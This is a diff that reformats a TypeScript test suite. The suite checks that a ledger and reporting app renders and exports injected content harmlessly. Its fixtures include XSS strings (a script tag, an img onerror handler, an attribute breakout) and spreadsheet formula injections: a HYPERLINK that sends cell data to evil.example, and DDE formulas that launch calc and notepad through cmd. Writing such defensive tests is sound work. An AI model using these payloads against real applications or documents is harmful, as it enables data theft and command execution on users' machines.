@@ -13,7 +13,7 @@ import { dialectName } from '../helpers/db.ts';
 const SCRIPT = '<script>alert("xss")</script>';
 const IMG = '<img src=x onerror=alert(1)>';
 const ATTR = '" onmouseover="alert(1)" x="';
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', "=cmd|' /C notepad'!A1"];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|'/C calc'!A0", "=cmd|' /C notepad'!A1"];
 
 describe(`${dialectName}: injected script and formulas are rendered harmlessly`, () => {
   let t: TestApp;
@@ -28,11 +28,19 @@ describe(`${dialectName}: injected script and formulas are rendered harmlessly`,
     t = await createTestApp();
     jiwei = await t.as('jiwei');
     shuji = await t.as('shuji');
-    const rec = await jiwei({ method: 'POST', url: '/api/ledgers/rectification/records', payload: { org: 'QH-DH', fields: { title, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-06', measures: SCRIPT, owner: '王五' } } });
+    const rec = await jiwei({
+      method: 'POST',
+      url: '/api/ledgers/rectification/records',
+      payload: { org: 'QH-DH', fields: { title, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-06', measures: SCRIPT, owner: '王五' } },
+    });
     expect(rec.statusCode, rec.body).toBe(201);
     recordId = rec.json().id;
     for (const f of FORMULAS) {
-      const r = await jiwei({ method: 'POST', url: '/api/ledgers/rectification/records', payload: { org: 'QH-DH', fields: { title: f, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-07' } } });
+      const r = await jiwei({
+        method: 'POST',
+        url: '/api/ledgers/rectification/records',
+        payload: { org: 'QH-DH', fields: { title: f, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-07' } },
+      });
       expect(r.statusCode, r.body).toBe(201);
     }
     const rep = await shuji({ method: 'POST', url: '/api/reports', payload: { org: 'QH-DH', period: '2023Q4' } });
@@ -40,7 +48,11 @@ describe(`${dialectName}: injected script and formulas are rendered harmlessly`,
     reportId = rep.json().id;
     const detail = (await shuji({ url: `/api/reports/${reportId}` })).json() as { narrative: { key: string; editable: boolean }[] };
     narrativeKey = detail.narrative.find((f) => f.editable)!.key;
-    const patch = await shuji({ method: 'PATCH', url: `/api/reports/${reportId}`, payload: { narrative: { [narrativeKey]: `${SCRIPT}\n${IMG}${ATTR}\n${FORMULAS[0]}` } } });
+    const patch = await shuji({
+      method: 'PATCH',
+      url: `/api/reports/${reportId}`,
+      payload: { narrative: { [narrativeKey]: `${SCRIPT}\n${IMG}${ATTR}\n${FORMULAS[0]}` } },
+    });
     expect(patch.statusCode, patch.body).toBe(200);
   });
   afterAll(() => t.close());
@@ -64,7 +76,10 @@ describe(`${dialectName}: injected script and formulas are rendered harmlessly`,
     for (const tag of body.match(/<[^>]*>/g) ?? []) {
       const m = /^<\/?([a-zA-Z0-9!]+)([\s\S]*?)\/?>$/.exec(tag);
       expect(m, `${label}: malformed tag ${tag}`).not.toBeNull();
-      expect(['!doctype', 'html', 'head', 'meta', 'title', 'body', 'article', 'h1', 'h2', 'h3', 'h4', 'h5', 'p', 'a', 'span', 'div', 'style'], `${label}: ${tag}`).toContain(m![1].toLowerCase());
+      expect(
+        ['!doctype', 'html', 'head', 'meta', 'title', 'body', 'article', 'h1', 'h2', 'h3', 'h4', 'h5', 'p', 'a', 'span', 'div', 'style'],
+        `${label}: ${tag}`,
+      ).toContain(m![1].toLowerCase());
       const attrs = [...m![2].matchAll(/([^\s=]+)(?:="[^"]*")?/g)].map((a) => a[1].toLowerCase());
       for (const a of attrs) expect(a, `${label}: attribute in ${tag}`).toMatch(/^(class|href|role|title|lang|charset|name|content|data-[a-z-]+|html)$/);
     }
@@ -93,7 +108,13 @@ describe(`${dialectName}: injected script and formulas are rendered harmlessly`,
     expect(xml).toContain('&lt;script&gt;');
     expect(xml).not.toMatch(/<w:fldSimple|<w:instrText[^>]*>[^<]*HYPERLINK/);
     const text = [...xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]).join('');
-    expect(text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&')).toContain(SCRIPT);
+    expect(
+      text
+        .replace(/&lt;/g, '<')
+        .replace(/&gt;/g, '>')
+        .replace(/&quot;/g, '"')
+        .replace(/&amp;/g, '&'),
+    ).toContain(SCRIPT);
     for (const name of Object.keys(zip.files)) expect(name, 'no macro or embedded object').not.toMatch(/vbaProject|activeX|embeddings/i);
   });
 
@@ -122,7 +143,10 @@ describe(`${dialectName}: injected script and formulas are rendered harmlessly`,
 
   it('JSON Lines export keeps the exact text (it is data for re-import, not for a spreadsheet)', async () => {
     const res = await jiwei({ url: '/api/ledgers/rectification/export?format=jsonl&org=QH-DH' });
-    const lines = res.body.trim().split('\n').map((l) => JSON.parse(l) as { fields?: { title?: string } });
+    const lines = res.body
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { fields?: { title?: string } });
     const titles = lines.map((l) => l.fields?.title);
     expect(titles).toContain(title);
     for (const f of FORMULAS) expect(titles).toContain(f);
